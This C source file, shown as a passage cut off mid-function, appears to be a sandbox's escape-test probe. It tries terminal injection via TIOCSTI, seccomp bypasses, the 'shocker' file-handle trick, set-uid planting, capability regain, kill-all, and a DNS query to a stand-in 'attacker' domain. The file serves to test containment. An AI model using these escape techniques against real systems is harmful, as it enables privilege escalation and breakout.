/* attack.c: one escape attempt per subcommand, run inside a sandstep jail.
 *
 * Linked statically (no loader, no NSS) so that it behaves the same in every
 * jail and under every uid.  Each subcommand makes one attempt and prints ONE
 * line on stdout, machine-readable:
 *
 *   ok                     the call succeeded
 *   errno=EPERM            the call failed with that errno
 *   key=value ...          several observations, in a fixed order
 *
 * A subcommand the kernel or the seccomp filter kills prints nothing: the
 * caller sees the signal in the exit status (128+N).  Exit status is 0
 * whenever a line was printed, 2 for a usage error, 3 when started outside a
 * jail: every subcommand refuses to run unless pid 1 is sandstep-init and
 * SANDSTEP=1 (kill-all or forkbomb on a host would hurt it).
 *
 *   attack LIST           prints every subcommand name (for the test's sanity check)
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/if_alg.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/securebits.h>
#include <linux/tiocl.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef AF_BLUETOOTH
#define AF_BLUETOOTH 31
#endif
#ifndef __X32_SYSCALL_BIT
#define __X32_SYSCALL_BIT 0x40000000
#endif

static const char *
err_name (int e)
{
  const char *name = strerrorname_np (e);
  static char buf[32];

  if (name != NULL)
    return name;
  snprintf (buf, sizeof buf, "%d", e);
  return buf;
}

/* Prints "ok" or "errno=NAME" for a call's return value, and exits 0. */
static int
result (long r)
{
  if (r >= 0)
    printf ("ok\n");
  else
    printf ("errno=%s\n", err_name (errno));
  fflush (stdout);
  return 0;
}

/* The same, as a word for a multi-field line. */
static const char *
outcome (long r, int e)
{
  static char bufs[8][48];
  static int next;
  char *buf = bufs[next++ % 8];

  if (r >= 0)
    return "ok";
  snprintf (buf, 48, "%s", err_name (e));
  return buf;
}

static int
usage (const char *what)
{
  fprintf (stderr, "attack: usage: %s\n", what);
  return 2;
}

/* ---- A. terminal ---- */

static int
do_tiocsti (int argc, char **argv)
{
  char c = '#';
  return result (ioctl (0, TIOCSTI, &c));
}

/* CVE-2019-10063: the request word with bit 32 set; the kernel reads only
 * the low 32 bits, so a 64-bit seccomp compare would let it through. */
static int
do_tiocsti_hi (int argc, char **argv)
{
  char c = '#';
  return result (syscall (SYS_ioctl, 0, (unsigned long) TIOCSTI | (1UL << 32), &c));
}

/* Make the inherited terminal our controlling tty first (new session, then
 * TIOCSCTTY): where that works the kernel itself would allow TIOCSTI, so only
 * the seccomp filter stands in the way.  "hi": the request with bit 32 set. */
static int
do_tiocsti_ctty (int argc, char **argv)
{
  unsigned long request = argc > 0 && strcmp (argv[0], "hi") == 0 ? (unsigned long) TIOCSTI | (1UL << 32) : TIOCSTI;
  char c = '#';
  long sid = setsid ();
  int sid_errno = errno;
  long ctty = ioctl (0, TIOCSCTTY, 0);
  int ctty_errno = errno;
  long sti = syscall (SYS_ioctl, 0, request, &c);
  int sti_errno = errno;

  printf ("setsid=%s tiocsctty=%s tiocsti=%s\n", outcome (sid, sid_errno), outcome (ctty, ctty_errno),
          outcome (sti, sti_errno));
  return 0;
}

static int
do_tioclinux (int argc, char **argv)
{
  char sub[2] = { TIOCL_PASTESEL, 0 };
  return result (ioctl (0, TIOCLINUX, sub));
}

/* ---- B. namespaces and mounts ---- */

static const struct { const char *name; unsigned long flag; } ns_flags[] = {
  { "user", CLONE_NEWUSER }, { "mnt", CLONE_NEWNS }, { "pid", CLONE_NEWPID }, { "net", CLONE_NEWNET },
  { "ipc", CLONE_NEWIPC }, { "uts", CLONE_NEWUTS }, { "cgroup", CLONE_NEWCGROUP },
  { "user+mnt", CLONE_NEWUSER | CLONE_NEWNS },
};

static int
ns_flag (const char *name, unsigned long *out)
{
  for (size_t i = 0; i < sizeof ns_flags / sizeof ns_flags[0]; i++)
    if (strcmp (ns_flags[i].name, name) == 0)
      {
        *out = ns_flags[i].flag;
        return 0;
      }
  return -1;
}

static int
do_unshare (int argc, char **argv)
{
  unsigned long flag;

  if (argc < 1 || ns_flag (argv[0], &flag) < 0)
    return usage ("unshare user|mnt|pid|net|ipc|uts|cgroup|user+mnt");
  return result (unshare (flag));
}

/* Raw clone(2) with a namespace flag: what a libc without clone3 would do. */
static int
do_clone (int argc, char **argv)
{
  unsigned long flag;
  long pid;

  if (argc < 1 || ns_flag (argv[0], &flag) < 0)
    return usage ("clone user|mnt|pid|net|ipc|uts|cgroup|user+mnt");
  pid = syscall (SYS_clone, flag | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0)
    _exit (0);
  if (pid > 0)
    waitpid (pid, NULL, 0);
  return result (pid);
}

static int
do_clone3 (int argc, char **argv)
{
  struct clone_args args = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
  long pid = syscall (SYS_clone3, &args, sizeof args);

  if (pid == 0)
    _exit (0);
  if (pid > 0)
    waitpid (pid, NULL, 0);
  return result (pid);
}

static int
do_mount (int argc, char **argv)
{
  return result (mount ("none", "/tmp", "tmpfs", 0, "size=1m"));
}

/* Remount a bind without nosuid/nodev (or read-write): the flags the jail set. */
static int
do_remount (int argc, char **argv)
{
  if (argc < 1)
    return usage ("remount PATH");
  return result (mount (NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL));
}

static int
do_umount (int argc, char **argv)
{
  if (argc < 1)
    return usage ("umount PATH");
  return result (umount2 (argv[0], MNT_DETACH));
}

static int
do_pivot_root (int argc, char **argv)
{
  return result (syscall (SYS_pivot_root, "/tmp", "/tmp"));
}

static int
do_chroot (int argc, char **argv)
{
  return result (chroot ("/tmp"));
}

/* The new mount API (CVE-2021-41133), each call with plausible arguments. */
static int
do_newmount (int argc, char **argv)
{
  const char *name = argc > 0 ? argv[0] : "";
  long r;

  if (strcmp (name, "open_tree") == 0)
    r = syscall (SYS_open_tree, AT_FDCWD, "/usr", 1 /* OPEN_TREE_CLONE */);
  else if (strcmp (name, "move_mount") == 0)
    r = syscall (SYS_move_mount, AT_FDCWD, "/usr", AT_FDCWD, "/tmp", 0);
  else if (strcmp (name, "fsopen") == 0)
    r = syscall (SYS_fsopen, "tmpfs", 0);
  else if (strcmp (name, "fsconfig") == 0)
    r = syscall (SYS_fsconfig, 0, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0);
  else if (strcmp (name, "fsmount") == 0)
    r = syscall (SYS_fsmount, 0, 0, 0);
  else if (strcmp (name, "fspick") == 0)
    r = syscall (SYS_fspick, AT_FDCWD, "/usr", 0);
  else if (strcmp (name, "mount_setattr") == 0)
    r = syscall (SYS_mount_setattr, AT_FDCWD, "/usr", 0, NULL, 0);
  else
    return usage ("newmount open_tree|move_mount|fsopen|fsconfig|fsmount|fspick|mount_setattr");
  return result (r);
}

/* setns into one of our own namespaces: only the filter can refuse that. */
static int
do_setns (int argc, char **argv)
{
  const char *path = argc > 0 ? argv[0] : "/proc/self/ns/net";
  int fd = open (path, O_RDONLY | O_CLOEXEC);

  if (fd < 0)
    {
      printf ("open=%s\n", err_name (errno));
      return 0;
    }
  return result (setns (fd, 0));
}

/* ---- C. files ---- */

static int
open_flags (const char *mode)
{
  if (strcmp (mode, "r") == 0)
    return O_RDONLY;
  if (strcmp (mode, "w") == 0)
    return O_WRONLY;
  if (strcmp (mode, "rw") == 0)
    return O_RDWR;
  if (strcmp (mode, "creat") == 0)
    return O_WRONLY | O_CREAT | O_EXCL;
  if (strcmp (mode, "dir") == 0)
    return O_RDONLY | O_DIRECTORY;
  return -1;
}

static int
do_open (int argc, char **argv)
{
  int flags;

  if (argc < 2 || (flags = open_flags (argv[1])) < 0)
    return usage ("open PATH r|w|rw|creat|dir");
  return result (open (argv[0], flags | O_CLOEXEC | O_NOCTTY, 0644));
}

/* open then write DATA: "ok" only if every byte went in. */
static int
do_write (int argc, char **argv)
{
  int fd;
  ssize_t n;

  if (argc < 2)
    return usage ("write PATH DATA");
  fd = open (argv[0], O_WRONLY | O_CLOEXEC | O_NOCTTY);
  if (fd < 0)
    return result (-1);
  n = write (fd, argv[1], strlen (argv[1]));
  if (n < 0)
    return result (-1);
  printf ("wrote=%zd\n", n);
  return 0;
}

/* Reads up to 4 KiB: "read=N" bytes, or the errno of open or read. */
static int
do_read (int argc, char **argv)
{
  char buf[4096];
  int fd;
  ssize_t n;

  if (argc < 1)
    return usage ("read PATH");
  fd = open (argv[0], O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
  if (fd < 0)
    return result (-1);
  n = read (fd, buf, sizeof buf);
  if (n < 0)
    return result (-1);
  printf ("read=%zd\n", n);
  return 0;
}

static int
do_stat (int argc, char **argv)
{
  struct stat st;

  if (argc < 1)
    return usage ("stat PATH");
  if (lstat (argv[0], &st) < 0)
    return result (-1);
  printf ("type=%s rdev=%u:%u\n",
          S_ISREG (st.st_mode) ? "file" : S_ISDIR (st.st_mode) ? "dir" : S_ISCHR (st.st_mode) ? "chr"
          : S_ISBLK (st.st_mode) ? "blk" : S_ISLNK (st.st_mode) ? "link" : S_ISFIFO (st.st_mode) ? "fifo" : "other",
          major (st.st_rdev), minor (st.st_rdev));
  return 0;
}

static int
do_link (int argc, char **argv)
{
  if (argc < 2)
    return usage ("link SRC DST");
  return result (link (argv[0], argv[1]));
}

static int
do_mknod (int argc, char **argv)
{
  mode_t type;

  if (argc < 2)
    return usage ("mknod chr|blk|fifo PATH");
  if (strcmp (argv[0], "chr") == 0)
    type = S_IFCHR;
  else if (strcmp (argv[0], "blk") == 0)
    type = S_IFBLK;
  else if (strcmp (argv[0], "fifo") == 0)
    type = S_IFIFO;
  else
    return usage ("mknod chr|blk|fifo PATH");
  /* chr 1:3 is /dev/null; blk 8:0 would be the first disk. */
  return result (mknod (argv[1], type | 0666, type == S_IFCHR ? makedev (1, 3) : type == S_IFBLK ? makedev (8, 0) : 0));
}

static int
do_setxattr_caps (int argc, char **argv)
{
  /* VFS_CAP_REVISION_2 with CAP_SETUID permitted and effective. */
  uint32_t caps[5] = { 0x02000001, 1u << CAP_SETUID, 0, 0, 0 };

  if (argc < 1)
    return usage ("setcap PATH");
  return result (setxattr (argv[0], "security.capability", caps, sizeof caps, 0));
}

static unsigned long long
status_hex (const char *field)
{
  char line[256];
  unsigned long long value = ~0ULL;
  FILE *f = fopen ("/proc/self/status", "re");
  size_t len = strlen (field);

  if (f == NULL)
    return value;
  while (fgets (line, sizeof line, f) != NULL)
    if (strncmp (line, field, len) == 0 && line[len] == ':')
      value = strtoull (line + len + 1, NULL, strncmp (field, "Cap", 3) == 0 ? 16 : 10);
  fclose (f);
  return value;
}

/* The credentials of this process: after the exec of a set-id file, a gain shows here. */
static int
do_creds (int argc, char **argv)
{
  uid_t r, e, s;

  getresuid (&r, &e, &s);
  printf ("uid=%u euid=%u suid=%u capeff=%016llx capprm=%016llx capbnd=%016llx capamb=%016llx nnp=%llu seccomp=%llu\n",
          r, e, s, status_hex ("CapEff"), status_hex ("CapPrm"), status_hex ("CapBnd"), status_hex ("CapAmb"),
          status_hex ("NoNewPrivs"), status_hex ("Seccomp"));
  return 0;
}

/* Copies this program to DIR/NAME as a set-uid file (and set-gid), then
 * executes it with "creds": what would the set-id bits give? */
static int
do_plant_suid (int argc, char **argv)
{
  char buf[65536];
  int in, out;
  ssize_t n;

  if (argc < 1)
    return usage ("plant-suid PATH");
  in = open ("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  out = open (argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (in < 0 || out < 0)
    {
      printf ("copy=%s\n", err_name (errno));
      return 0;
    }
  while ((n = read (in, buf, sizeof buf)) > 0)
    if (write (out, buf, n) != n)
      {
        printf ("copy=%s\n", err_name (errno));
        return 0;
      }
  if (fchmod (out, 06755) < 0)
    {
      printf ("chmod=%s\n", err_name (errno));
      return 0;
    }
  close (out);
  close (in);
  fflush (stdout);
  execl (argv[0], argv[0], "creds", (char *) NULL);
  printf ("exec=%s\n", err_name (errno));
  return 0;
}

/* Every way back to a capability: capset, ambient raise, securebits, NNP off. */
static int
do_regain (int argc, char **argv)
{
  struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
  struct __user_cap_data_struct data[2];
  long capset, ambient, bits, nnp;
  int capset_e, ambient_e, bits_e, nnp_e;

  memset (data, 0xff, sizeof data);
  capset = syscall (SYS_capset, &header, data);
  capset_e = errno;
  ambient = prctl (PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0);
  ambient_e = errno;
  bits = prctl (PR_SET_SECUREBITS, 0, 0, 0, 0);
  bits_e = errno;
  nnp = prctl (PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
  nnp_e = errno;
  printf ("capset=%s ambient=%s securebits=%s nnp-off=%s capeff=%016llx nnp=%llu\n", outcome (capset, capset_e),
          outcome (ambient, ambient_e), outcome (bits, bits_e), outcome (nnp, nnp_e), status_hex ("CapEff"),
          status_hex ("NoNewPrivs"));
  return 0;
}

/* ---- D. processes ---- */

static int
do_ptrace (int argc, char **argv)
{
  if (argc < 1)
    return usage ("ptrace attach PID|traceme");
  if (strcmp (argv[0], "traceme") == 0)
    return result (syscall (SYS_ptrace, 0 /* PTRACE_TRACEME */, 0, 0, 0));
  if (argc < 2)
    return usage ("ptrace attach PID");
  return result (syscall (SYS_ptrace, 16 /* PTRACE_ATTACH */, atoi (argv[1]), 0, 0));
}

static int
do_vm (int argc, char **argv)
{
  char local_buf[8], remote_buf[8] = "x";
  struct iovec local = { local_buf, sizeof local_buf }, remote = { remote_buf, sizeof remote_buf };

  if (argc < 2)
    return usage ("vm read|write PID");
  /* The remote address is ours: meaningless in the target, but the call is refused before that matters. */
  if (strcmp (argv[0], "read") == 0)
    return result (process_vm_readv (atoi (argv[1]), &local, 1, &remote, 1, 0));
  return result (process_vm_writev (atoi (argv[1]), &local, 1, &remote, 1, 0));
}

/* pidfd_getfd PID FD ("self": this process, which any process may do
 * without seccomp; so the refusal shows the seccomp row, not ptrace's rule). */
static int
do_pidfd_getfd (int argc, char **argv)
{
  int pid, pidfd, r;

  if (argc < 2)
    return usage ("pidfd-getfd PID|self FD");
  pid = strcmp (argv[0], "self") == 0 ? getpid () : atoi (argv[0]);
  pidfd = (int) syscall (SYS_pidfd_open, pid, 0);
  if (pidfd < 0)
    return result (-1);
  r = (int) syscall (SYS_pidfd_getfd, pidfd, atoi (argv[1]), 0);
  {
    int errsv = errno;
    if (r >= 0)
      close (r);
    close (pidfd);
    errno = errsv;
  }
  return result (r);
}

static int
count_pids (void)
{
  DIR *dir = opendir ("/proc");
  struct dirent *e;
  int n = 0;

  if (dir == NULL)
    return -1;
  while ((e = readdir (dir)) != NULL)
    if (e->d_name[0] >= '0' && e->d_name[0] <= '9')
      n++;
  closedir (dir);
  return n;
}

/* kill(-1, SIGKILL): every process we may signal but ourselves.  A child of
 * ours waits first, so there is something in the jail to hit. */
static int
do_kill_all (int argc, char **argv)
{
  pid_t child = fork ();
  long r;
  int e, status = 0;

  if (child == 0)
    {
      for (;;)
        pause ();
    }
  r = kill (-1, SIGKILL);
  e = errno;
  waitpid (child, &status, 0);
  printf ("kill=%s child=%s visible=%d\n", outcome (r, e),
          WIFSIGNALED (status) ? sigabbrev_np (WTERMSIG (status)) : "alive", count_pids ());
  return 0;
}

/* ---- E. seccomp ---- */

static int
do_x32 (int argc, char **argv)
{
  /* getpid through the x32 table. */
  return result (syscall (__X32_SYSCALL_BIT | SYS_getpid));
}

static int
do_int80 (int argc, char **argv)
{
  long r;

  /* i386 getpid (20) through the 32-bit entry. */
  __asm__ volatile ("int $0x80" : "=a" (r) : "0" (20L) : "memory");
  if (r < 0)
    {
      errno = -r;
      r = -1;
    }
  return result (r);
}

static int
do_io_uring (int argc, char **argv)
{
  struct io_uring_params params;
  long r;

  memset (&params, 0, sizeof params);
  if (argc > 0 && strcmp (argv[0], "enter") == 0)
    r = syscall (SYS_io_uring_enter, 0, 1, 0, 0, NULL, 0);
  else if (argc > 0 && strcmp (argv[0], "register") == 0)
    r = syscall (SYS_io_uring_register, 0, 0, NULL, 0);
  else
    r = syscall (SYS_io_uring_setup, 8, &params);
  return result (r);
}

/* Kernel attack surface, each with arguments that would do something if allowed. */
static int
do_sys (int argc, char **argv)
{
  const char *name = argc > 0 ? argv[0] : "";
  char buf[256];
  long r;

  if (strcmp (name, "bpf") == 0)
    {
      /* BPF_MAP_CREATE of a 1-entry array */
      uint32_t attr[16] = { 2 /* BPF_MAP_TYPE_ARRAY */, 4, 4, 1 };
      r = syscall (SYS_bpf, 0, attr, sizeof attr);
    }
  else if (strcmp (name, "perf_event_open") == 0)
    {
      struct perf_event_attr attr = { .type = PERF_TYPE_SOFTWARE, .size = sizeof attr,
                                      .config = PERF_COUNT_SW_CPU_CLOCK, .disabled = 1 };
      r = syscall (SYS_perf_event_open, &attr, 0, -1, -1, 0);
    }
  else if (strcmp (name, "userfaultfd") == 0)
    r = syscall (SYS_userfaultfd, O_CLOEXEC);
  else if (strcmp (name, "add_key") == 0)
    r = syscall (SYS_add_key, "user", "sandstep-attack", "x", 1, KEY_SPEC_SESSION_KEYRING);
  else if (strcmp (name, "keyctl") == 0)
    r = syscall (SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
  else if (strcmp (name, "request_key") == 0)
    r = syscall (SYS_request_key, "user", "sandstep-attack", NULL, KEY_SPEC_SESSION_KEYRING);
  else if (strcmp (name, "open_by_handle_at") == 0)
    {
      /* The shocker attack: a handle for the root inode of the file system. */
      struct { unsigned int bytes; int type; unsigned char f[8]; } h = { 8, 1, { 2, 0, 0, 0, 0, 0, 0, 0 } };
      r = syscall (SYS_open_by_handle_at, AT_FDCWD, &h, O_RDONLY);
    }
  else if (strcmp (name, "name_to_handle_at") == 0)
    {
      struct { unsigned int bytes; int type; unsigned char f[128]; } h = { 128, 0, { 0 } };
      int mount_id;
      r = syscall (SYS_name_to_handle_at, AT_FDCWD, "/usr", &h, &mount_id, 0);
    }
  else if (strcmp (name, "syslog") == 0)
    r = syscall (SYS_syslog, 3 /* SYSLOG_ACTION_READ_ALL */, buf, sizeof buf);
  else if (strcmp (name, "kexec_load") == 0)
    r = syscall (SYS_kexec_load, 0, 0, NULL, 0);
  else if (strcmp (name, "kexec_file_load") == 0)
    r = syscall (SYS_kexec_file_load, -1, -1, 0, "", 0);
  else if (strcmp (name, "init_module") == 0)
    r = syscall (SYS_init_module, buf, 0, "");
  else if (strcmp (name, "finit_module") == 0)
    r = syscall (SYS_finit_module, 0, "", 0);
  else if (strcmp (name, "delete_module") == 0)
    r = syscall (SYS_delete_module, "sandstep_none", O_NONBLOCK);
  else if (strcmp (name, "acct") == 0)
    r = syscall (SYS_acct, "/workspace/acct");
  else if (strcmp (name, "quotactl") == 0)
    r = syscall (SYS_quotactl, 0x800007 /* QCMD(Q_GETQUOTA...) sync */, "/dev/null", 0, NULL);
  else if (strcmp (name, "reboot") == 0)
    r = syscall (SYS_reboot, 0xfee1dead, 672274793, 0x4321fedc /* RB_POWER_OFF */, NULL);
  else if (strcmp (name, "swapon") == 0)
    r = syscall (SYS_swapon, "/workspace/swap", 0);
  else if (strcmp (name, "settimeofday") == 0)
    r = syscall (SYS_settimeofday, NULL, NULL);
  else if (strcmp (name, "clock_settime") == 0)
    {
      struct timespec ts = { 0, 0 };
      r = syscall (SYS_clock_settime, CLOCK_REALTIME, &ts);
    }
  else if (strcmp (name, "modify_ldt") == 0)
    r = syscall (SYS_modify_ldt, 0, buf, sizeof buf);
  else if (strcmp (name, "fanotify_init") == 0)
    r = syscall (SYS_fanotify_init, 0, 0);
  else if (strcmp (name, "lookup_dcookie") == 0)
    r = syscall (SYS_lookup_dcookie, 0, buf, sizeof buf);
  else if (strcmp (name, "uselib") == 0)
    r = syscall (SYS_uselib, "/usr/lib/x86_64-linux-gnu/libc.so.6");
  else if (strcmp (name, "vhangup") == 0)
    r = syscall (SYS_vhangup);
  else
    return usage ("sys NAME");
  return result (r);
}

/* ---- F. network ---- */

static int
family_of (const char *name)
{
  static const struct { const char *name; int family; } families[] = {
    { "unix", AF_UNIX }, { "inet", AF_INET }, { "inet6", AF_INET6 }, { "netlink", AF_NETLINK },
    { "packet", AF_PACKET }, { "vsock", AF_VSOCK }, { "bluetooth", AF_BLUETOOTH }, { "alg", AF_ALG },
    { "key", AF_KEY }, { "tipc", AF_TIPC }, { "can", AF_CAN }, { "xdp", 44 },
  };
  for (size_t i = 0; i < sizeof families / sizeof families[0]; i++)
    if (strcmp (families[i].name, name) == 0)
      return families[i].family;
  return atoi (name);
}

static int
type_of (const char *name)
{
  if (strcmp (name, "stream") == 0)
    return SOCK_STREAM;
  if (strcmp (name, "dgram") == 0)
    return SOCK_DGRAM;
  if (strcmp (name, "raw") == 0)
    return SOCK_RAW;
  if (strcmp (name, "raw-cloexec") == 0)
    return SOCK_RAW | SOCK_CLOEXEC | SOCK_NONBLOCK;
  if (strcmp (name, "packet") == 0)
    return SOCK_PACKET;
  if (strcmp (name, "seqpacket") == 0)
    return SOCK_SEQPACKET;
  return atoi (name);
}

static int
do_socket (int argc, char **argv)
{
  if (argc < 3)
    return usage ("socket FAMILY TYPE PROTOCOL");
  return result (socket (family_of (argv[0]), type_of (argv[1]), atoi (argv[2])));
}

/* vsock to the hypervisor (CID 2), port 9999: the socket call is where it must end. */
static int
do_vsock_connect (int argc, char **argv)
{
  struct sockaddr_vm addr = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = 9999 };
  int fd = socket (AF_VSOCK, SOCK_STREAM, 0);

  if (fd < 0)
    return result (-1);
  return result (connect (fd, (struct sockaddr *) &addr, sizeof addr));
}

static int
fill_address (const char *host, const char *port, struct sockaddr_storage *ss, socklen_t *len)
{
  struct sockaddr_in *in4 = (struct sockaddr_in *) ss;
  struct sockaddr_in6 *in6 = (struct sockaddr_in6 *) ss;

  memset (ss, 0, sizeof *ss);
  if (inet_pton (AF_INET, host, &in4->sin_addr) == 1)
    {
      in4->sin_family = AF_INET;
      in4->sin_port = htons (atoi (port));
      *len = sizeof *in4;
      return AF_INET;
    }
  if (inet_pton (AF_INET6, host, &in6->sin6_addr) == 1)
    {
      in6->sin6_family = AF_INET6;
      in6->sin6_port = htons (atoi (port));
      *len = sizeof *in6;
      return AF_INET6;
    }
  return -1;
}

/* A TCP connect that ignores every proxy variable. */
static int
do_connect (int argc, char **argv)
{
  struct sockaddr_storage ss;
  socklen_t len;
  int family, fd;

  if (argc < 2 || (family = fill_address (argv[0], argv[1], &ss, &len)) < 0)
    return usage ("connect ADDRESS PORT [SECONDS]");
  fd = socket (family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0)
    return result (-1);
  if (argc > 2)
    {
      /* A connect that gets no answer in time fails with EINPROGRESS. */
      struct timeval tv = { .tv_sec = atoi (argv[2]) };
      if (setsockopt (fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv) < 0)
        return result (-1);
    }
  return result (connect (fd, (struct sockaddr *) &ss, len));
}

/* A DNS query sent straight to a resolver address (UDP, port 53). */
static int
do_udp (int argc, char **argv)
{
  static const unsigned char query[] = {
    0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    6, 's', 'e', 'c', 'r', 'e', 't', 8, 'a', 't', 't', 'a', 'c', 'k', 'e', 'r', 3, 't', 'l', 'd', 0, 0x00, 0x01, 0x00, 0x01,
  };
  struct sockaddr_storage ss;
  socklen_t len;
  int family, fd;

  if (argc < 2 || (family = fill_address (argv[0], argv[1], &ss, &len)) < 0)
    return usage ("udp ADDRESS PORT");
  fd = socket (family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0)
    return result (-1);
  return result (sendto (fd, query, sizeof query, 0, (struct sockaddr *) &ss, len));
}

static int
do_connect_unix (int argc, char **argv, int abstract)
{
  struct sockaddr_un addr = { .sun_family = AF_UNIX };
  socklen_t len;
  int fd;

  if (argc < 1)
    return usage ("connect-unix PATH | connect-abstract NAME");
  if (abstract)
    {
      strncpy (addr.sun_path + 1, argv[0], sizeof addr.sun_path - 2);
      len = offsetof (struct sockaddr_un, sun_path) + 1 + strlen (argv[0]);
    }
  else
    {
      strncpy (addr.sun_path, argv[0], sizeof addr.sun_path - 1);
      len = sizeof addr;
    }
  fd = socket (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0)
    return result (-1);
  return result (connect (fd, (struct sockaddr *) &addr, len));
}

/* Reads until "\r\n\r\n" or EOF; returns bytes read. */
static ssize_t
read_head (int fd, char *buf, size_t size)
{
  size_t len = 0;

  while (len + 1 < size)
    {
      ssize_t n = read (fd, buf + len, size - 1 - len);
      if (n <= 0)
        break;
      len += n;
      buf[len] = '\0';
      if (strstr (buf, "\r\n\r\n") != NULL)
        break;
    }
  buf[len] = '\0';
  return len;
}

/* One request to the jail's proxy port (127.0.0.1:3128), whatever the
 * environment says: prints "status=CODE" and, for a refusal, the body's line;
 * after a 200 with PAYLOAD, sends it (then, with "halfclose", shuts down its
 * sending side) and prints the first line that comes back within 5 s. */
static int
do_proxy (int argc, char **argv)
{
  struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons (3128), .sin_addr.s_addr = htonl (INADDR_LOOPBACK) };
  char request[1024], head[8192];
  const char *method, *target, *payload;
  char *body, *nl;
  int fd, code = 0;
  ssize_t n;

  if (argc < 2)
    return usage ("proxy METHOD TARGET [PAYLOAD [halfclose]]");
  method = argv[0];
  target = argv[1];
  payload = argc > 2 ? argv[2] : NULL;
  fd = socket (AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0 || connect (fd, (struct sockaddr *) &addr, sizeof addr) < 0)
    return result (-1);
  snprintf (request, sizeof request, "%s %s HTTP/1.1\r\nHost: %s\r\n\r\n", method, target, target);
  if (write (fd, request, strlen (request)) < 0)
    return result (-1);
  n = read_head (fd, head, sizeof head);
  if (n <= 0)
    {
      printf ("status=none\n");
      return 0;
    }
  sscanf (head, "HTTP/1.%*d %d", &code);
  if (code != 200)
    {
      /* The body may come with the head or after it. */
      body = strstr (head, "\r\n\r\n");
      body = body != NULL ? body + 4 : head + n;
      if (*body == '\0')
        {
          ssize_t m = read (fd, head + n, sizeof head - 1 - n);
          if (m > 0)
            head[n + m] = '\0';
        }
      if ((nl = strchr (body, '\n')) != NULL)
        *nl = '\0';
      printf ("status=%d body=%s\n", code, body);
      return 0;
    }
  if (payload == NULL)
    {
      printf ("status=200\n");
      return 0;
    }
  if (write (fd, payload, strlen (payload)) < 0)
    return result (-1);
  /* "halfclose": say we are done sending, as nc -N or an HTTP/1.0 client may, and still wait for the answer. */
  if (argc > 3 && strcmp (argv[3], "halfclose") == 0)
    shutdown (fd, SHUT_WR);
  {
    struct pollfd pfd = { .fd = fd, .events = POLLIN };
    size_t len = 0;
    while (len + 1 < sizeof head && poll (&pfd, 1, 5000) > 0)
      {
        ssize_t m = read (fd, head + len, sizeof head - 1 - len);
        if (m <= 0)
          break;
        len += m;
      }
    head[len] = '\0';
    if ((nl = strpbrk (head, "\r\n")) != NULL)
      *nl = '\0';
  }
  printf ("status=200 reply=%s\n", head);
  return 0;
}

/* Listens on 127.0.0.1:PORT in a child that lives SECONDS (as `sleep SECONDS`). */
static int
do_listen (int argc, char **argv)
{
  struct sockaddr_in addr = { .sin_family = AF_INET, .sin_addr.s_addr = htonl (INADDR_LOOPBACK) };
  int one = 1;
  int fd;
  pid_t pid;

  if (argc < 2)
    return usage ("listen PORT SECONDS");
  addr.sin_port = htons (atoi (argv[0]));
  fd = socket (AF_INET, SOCK_STREAM, 0);
  if (fd < 0 || setsockopt (fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0 ||
      bind (fd, (struct sockaddr *) &addr, sizeof addr) < 0 || listen (fd, 4) < 0)
    return result (-1);
  pid = fork ();
  if (pid == 0)
    {
      setsid ();
      execl ("/usr/bin/sleep", "sleep", argv[1], (char *) NULL);
      _exit (127);
    }
  return result (pid);
}

/* ---- H. leaks ---- */

static int
do_fds (int argc, char **argv)
{
  int first = 1;

  printf ("fds=");
  for (int fd = 0; fd < 4096; fd++)
    if (fcntl (fd, F_GETFD) >= 0)
      {
        printf ("%s%d", first ? "" : ",", fd);
        first = 0;
      }
  printf ("\n");
  return 0;
}

extern char **environ;

/* Does any variable's name or value contain TEXT? */
static int
do_env_grep (int argc, char **argv)
{
  if (argc < 1)
    return usage ("env-grep TEXT");
  for (char **e = environ; *e; e++)
    if (strstr (*e, argv[0]) != NULL)
      {
        printf ("present\n");
        return 0;
      }
  printf ("absent\n");
  return 0;
}

/* Where are we, and does ".." of "/" lead anywhere? */
static int
do_cwd (int argc, char **argv)
{
  char cwd[4096], link[4096];
  struct stat root, up, upup;
  ssize_t n = readlink ("/proc/self/cwd", link, sizeof link - 1);

  if (getcwd (cwd, sizeof cwd) == NULL)
    snprintf (cwd, sizeof cwd, "(%s)", err_name (errno));
